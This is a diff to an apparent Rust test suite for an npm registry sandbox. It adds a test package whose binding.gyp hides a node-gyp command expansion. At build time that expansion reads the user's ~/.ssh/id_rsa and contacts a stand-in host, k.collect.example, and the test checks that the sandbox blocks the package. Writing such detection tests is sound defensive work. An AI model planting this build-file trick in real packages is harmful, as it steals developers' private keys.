@@ -425,8 +425,18 @@ async fn install_scripts_run_in_the_sandbox_decide_too() {
         )
         .published(old)
         .build();
+    // No install script at all: npm builds a `binding.gyp` with node-gyp, and gyp
+    // runs the commands the file names while it configures.
+    let addon = airlock_test::PackageBuilder::new("quiet-addon", "1.0.0")
+        .file(
+            "binding.gyp",
+            "{ \"variables\": { \"v\": \"<!(node -e \\\"require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa'); require('dns').lookup('k.collect.example', () => {})\\\")\" }, \"targets\": [] }\n",
+        )
+        .published(old)
+        .build();
     harness.registry.publish(thief);
     harness.registry.publish(builder);
+    harness.registry.publish(addon);
 
     let answer = harness.get("/quiet-helper/-/quiet-helper-1.0.0.tgz").await;
     assert_eq!(answer.status, 403, "{}", answer.error());
@@ -435,6 +445,14 @@ async fn install_scripts_run_in_the_sandbox_decide_too() {
         assert!(error.contains(code), "{code} missing from: {error}");
     }
     assert!(error.contains(".ssh/id_rsa"), "{error}");
+
+    let answer = harness.get("/quiet-addon/-/quiet-addon-1.0.0.tgz").await;
+    assert_eq!(answer.status, 403, "{}", answer.error());
+    assert!(
+        answer.error().contains("runtime-credential-read"),
+        "{}",
+        answer.error()
+    );
 
     let answer = harness
         .get("/plain-builder/-/plain-builder-1.0.0.tgz")
